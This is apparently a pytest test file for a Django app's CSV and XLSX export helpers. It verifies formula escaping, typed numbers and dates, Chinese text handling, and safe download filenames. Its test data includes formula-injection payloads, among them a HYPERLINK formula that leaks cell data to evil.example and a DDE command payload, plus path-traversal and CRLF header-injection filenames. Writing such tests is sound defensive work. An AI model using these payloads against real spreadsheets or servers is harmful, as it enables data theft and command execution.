"""Spreadsheet exports never hand a formula to Excel, keep numbers as numbers and Chinese as Chinese."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from decimal import Decimal
from typing import Any
from urllib.parse import unquote

import openpyxl  # type: ignore[import-untyped]
import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone

from weibao.core.exports import (
    BOM,
    CSV_FLUSH_ROWS,
    FORMULA_STARTS,
    MAX_WIDTH,
    XLSX_CONTENT_TYPE,
    XLSX_MAX_CELL_CHARS,
    attachment_disposition,
    cell_safe,
    csv_response,
    sheet_title_clean,
    xlsx_response,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+86 571 1234 5678",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HEADER = ["编号", "标题", "金额", "日期"]


def _csv_text(response: StreamingHttpResponse) -> str:
    return b"".join(response.streaming_content).decode("utf-8")  # type: ignore[arg-type]


def _csv_rows(response: StreamingHttpResponse) -> list[list[str]]:
    text = _csv_text(response)
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


def _close(response: FileResponse) -> None:
    # The temporary file, closed directly: response.close() would fire request_finished,
    # which touches the database connection these tests do not have.
    assert response.file_to_stream is not None
    response.file_to_stream.close()


def _workbook(response: FileResponse) -> Any:
    content = b"".join(response.streaming_content)  # type: ignore[arg-type]
    _close(response)
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("text", DANGEROUS)
def test_cell_safe_prefixes_text_a_spreadsheet_would_run(text: str) -> None:
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_escaped(start: str) -> None:
    assert cell_safe(f"{start}x") == f"'{start}x"


@pytest.mark.parametrize(
    "value",
    [
        "",
        "普通文本",
        "工单 WB-2026-0001",
        "a=b",
        " =1+1",
        "'=already quoted",
        "１２３",
    ],
)
def test_cell_safe_leaves_harmless_text_alone(value: str) -> None:
    assert cell_safe(value) == value


@pytest.mark.parametrize(
    "value",
    [
        None,
        0,
        -5,
        3.25,
        -0.5,
        Decimal("-12.50"),
        True,
        dt.date(2026, 5, 1),
        dt.datetime(2026, 5, 1, 8, 30, tzinfo=dt.UTC),
        dt.time(8, 30),
    ],
)
def test_cell_safe_keeps_numbers_dates_and_none_as_typed_values(value: object) -> None:
    assert cell_safe(value) is value


@pytest.mark.parametrize(("value", "text"), [(float("nan"), "nan"), (float("-inf"), "'-inf"), (float("inf"), "inf")])
def test_cell_safe_writes_numbers_a_spreadsheet_cannot_hold_as_text(value: float, text: str) -> None:
    assert cell_safe(value) == text


def test_cell_safe_turns_other_objects_into_escaped_text() -> None:
    class Label:
        def __str__(self) -> str:
            return "=danger"

    assert cell_safe(Label()) == "'=danger"


def test_csv_escapes_every_dangerous_prefix_in_header_and_rows() -> None:
    response = csv_response("导出.csv", ["=标题", "备注"], [[text, "安全"] for text in DANGEROUS])
    rows = _csv_rows(response)
    assert rows[0] == ["'=标题", "备注"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in DANGEROUS]


def test_csv_keeps_numbers_unquoted_and_formats_dates() -> None:
    moment = dt.datetime(2026, 5, 1, 0, 30, tzinfo=dt.UTC)
    response = csv_response(
        "x.csv",
        HEADER,
        [[1, "-5", -5, dt.date(2026, 5, 1)], [2, None, Decimal("3.50"), moment], [3, True, 1.5, dt.time(9, 0)]],
    )
    rows = _csv_rows(response)
    assert rows[1] == ["1", "'-5", "-5", "2026-05-01"]
    # Aware times are written in the active time zone (Asia/Shanghai).
    assert rows[2] == ["2", "", "3.50", "2026-05-01 08:30:00"]
    assert rows[3] == ["3", "TRUE", "1.5", "09:00:00"]


def test_csv_is_utf8_with_a_bom_so_excel_reads_chinese() -> None:
    response = csv_response("x.csv", HEADER, [[1, "杭州市西湖区社区服务中心，“机房”", "𠜎", "a\nb"]])
    raw = b"".join(response.streaming_content)  # type: ignore[arg-type]
    assert raw.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert _csv_rows(csv_response("x.csv", HEADER, [[1, "杭州市西湖区社区服务中心，“机房”", "𠜎", "a\nb"]]))[1] == [
        "1",
        "杭州市西湖区社区服务中心，“机房”",
        "𠜎",
        "a\nb",
    ]


def test_csv_streams_rows_as_they_are_read() -> None:
    consumed = []

    def rows() -> Iterator[list[object]]:
        for number in range(CSV_FLUSH_ROWS * 3):
            consumed.append(number)
            yield [number, f"行{number}"]

    response = csv_response("x.csv", ["n", "text"], rows())
    assert isinstance(response, StreamingHttpResponse)
    assert consumed == []
    chunks = iter(response.streaming_content)  # type: ignore[arg-type]
    next(chunks)
    next(chunks)
    assert len(consumed) == CSV_FLUSH_ROWS
    assert len(_csv_rows(csv_response("x.csv", ["n"], ([n] for n in range(1000))))) == 1001


def test_csv_drops_nul_characters() -> None:
    assert _csv_rows(csv_response("x.csv", ["a"], [["前\x00后"]]))[1] == ["前后"]


def test_xlsx_escapes_every_dangerous_prefix_and_stores_it_as_text() -> None:
    response = xlsx_response("导出.xlsx", "工单", ["=标题", "备注"], [[text, "安全"] for text in DANGEROUS])
    sheet = _workbook(response).active
    assert sheet["A1"].value == "'=标题"
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML turns a stored carriage return into a line feed when the file is read.
    assert [cell.value for cell in cells] == ["'" + text.replace("\r", "\n") for text in DANGEROUS]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_keeps_numbers_and_dates_as_typed_values() -> None:
    moment = dt.datetime(2026, 5, 1, 0, 30, tzinfo=dt.UTC)
    response = xlsx_response(
        "x.xlsx",
        "s",
        HEADER,
        [[1, "-5", -5, dt.date(2026, 5, 1)], [2, None, Decimal("3.50"), moment], [3, True, 1.5, None]],
    )
    sheet = _workbook(response).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0] == [1, "'-5", -5, dt.datetime(2026, 5, 1, 0, 0)]
    assert rows[1] == [2, None, 3.5, dt.datetime(2026, 5, 1, 8, 30)]
    assert rows[2] == [3, True, 1.5, None]
    assert sheet["C2"].data_type == "n"
    assert sheet["D2"].is_date
    assert sheet["D3"].is_date


def test_xlsx_round_trips_chinese_text() -> None:
    text = "杭州市西湖区社区服务中心 — 服务器宕机，已更换硬盘 𠜎"
    sheet = _workbook(xlsx_response("x.xlsx", "客户", ["名称"], [[text]])).active
    assert sheet.title == "客户"
    assert sheet["A2"].value == text


def test_xlsx_header_is_bold_and_frozen_and_columns_fit() -> None:
    rows = [[1, "短", "杭州市西湖区社区服务中心" * 2], [22, "短", "x" * 500]]
    sheet = _workbook(xlsx_response("x.xlsx", "s", ["编号", "问题标题", "客户名称"], rows)).active
    assert [cell.font.b for cell in sheet[1]] == [True, True, True]
    assert not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABC"}
    # Chinese characters count double: "问题标题" takes the room of eight Latin letters.
    assert widths == {"A": 6, "B": 10, "C": MAX_WIDTH}


def test_xlsx_drops_characters_xml_cannot_hold_and_caps_cell_length() -> None:
    sheet = _workbook(xlsx_response("x.xlsx", "s", ["a"], [["前\x00\x07后"], ["长" * 40000]])).active
    assert sheet["A2"].value == "前后"
    assert len(sheet["A3"].value) == XLSX_MAX_CELL_CHARS


def test_xlsx_handles_rows_beyond_the_width_sample_and_ragged_rows() -> None:
    rows = ([number, f"行{number}"] if number % 2 else [number] for number in range(500))
    sheet = _workbook(xlsx_response("x.xlsx", "s", ["n", "text"], rows)).active
    assert sheet.max_row == 501
    assert sheet["B501"].value == "行499"
    assert sheet["B500"].value is None


def test_xlsx_response_headers() -> None:
    response = xlsx_response("工单导出 2026-05.xlsx", "s", ["a"], [[1]])
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert int(response["Content-Length"]) > 0
    assert response["Content-Disposition"] == (
        "attachment; filename=\"____ 2026-05.xlsx\"; filename*=UTF-8''"
        "%E5%B7%A5%E5%8D%95%E5%AF%BC%E5%87%BA%202026-05.xlsx"
    )
    _close(response)


@pytest.mark.parametrize(
    ("title", "clean"),
    [
        ("工单", "工单"),
        ("a/b\\c?d*e[f]g:h", "a_b_c_d_e_f_g_h"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("", "Sheet1"),
        ("\x00", "Sheet1"),
    ],
)
def test_sheet_titles_are_made_acceptable_to_excel(title: str, clean: str) -> None:
    assert sheet_title_clean(title) == clean


@pytest.mark.parametrize(
    ("filename", "disposition"),
    [
        ("export.csv", "attachment; filename=\"export.csv\"; filename*=UTF-8''export.csv"),
        ("工单.csv", "attachment; filename=\"download.csv\"; filename*=UTF-8''%E5%B7%A5%E5%8D%95.csv"),
        ("工单 2026.xlsx", "attachment; filename=\"__ 2026.xlsx\"; filename*=UTF-8''%E5%B7%A5%E5%8D%95%202026.xlsx"),
        ('a"b;c.csv', "attachment; filename=\"a_b_c.csv\"; filename*=UTF-8''a%22b%3Bc.csv"),
        ("../../etc/passwd", "attachment; filename=\".._.._etc_passwd\"; filename*=UTF-8''.._.._etc_passwd"),
        (
            "a\r\nSet-Cookie: x.csv",
            "attachment; filename=\"aSet-Cookie: x.csv\"; filename*=UTF-8''aSet-Cookie%3A%20x.csv",
        ),
        ("", "attachment; filename=\"download\"; filename*=UTF-8''download"),
        ("100%.csv", "attachment; filename=\"100_.csv\"; filename*=UTF-8''100%25.csv"),
    ],
)
def test_attachment_disposition_keeps_chinese_names_and_nothing_dangerous(filename: str, disposition: str) -> None:
    assert attachment_disposition(filename) == disposition


def test_csv_response_names_the_download() -> None:
    response = csv_response("客户清单.csv", ["a"], [])
    assert response["Content-Disposition"].startswith('attachment; filename="download.csv"; ')
    assert unquote(response["Content-Disposition"].split("UTF-8''")[1]) == "客户清单.csv"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_aware_datetimes_follow_the_active_time_zone() -> None:
    moment = dt.datetime(2026, 5, 1, 0, 30, tzinfo=dt.UTC)
    with timezone.override("Europe/Berlin"):
        rows = _csv_rows(csv_response("x.csv", ["t"], [[moment]]))
        sheet = _workbook(xlsx_response("x.xlsx", "s", ["t"], [[moment]])).active
    assert rows[1] == ["2026-05-01 02:30:00"]
    assert sheet["A2"].value == dt.datetime(2026, 5, 1, 2, 30)
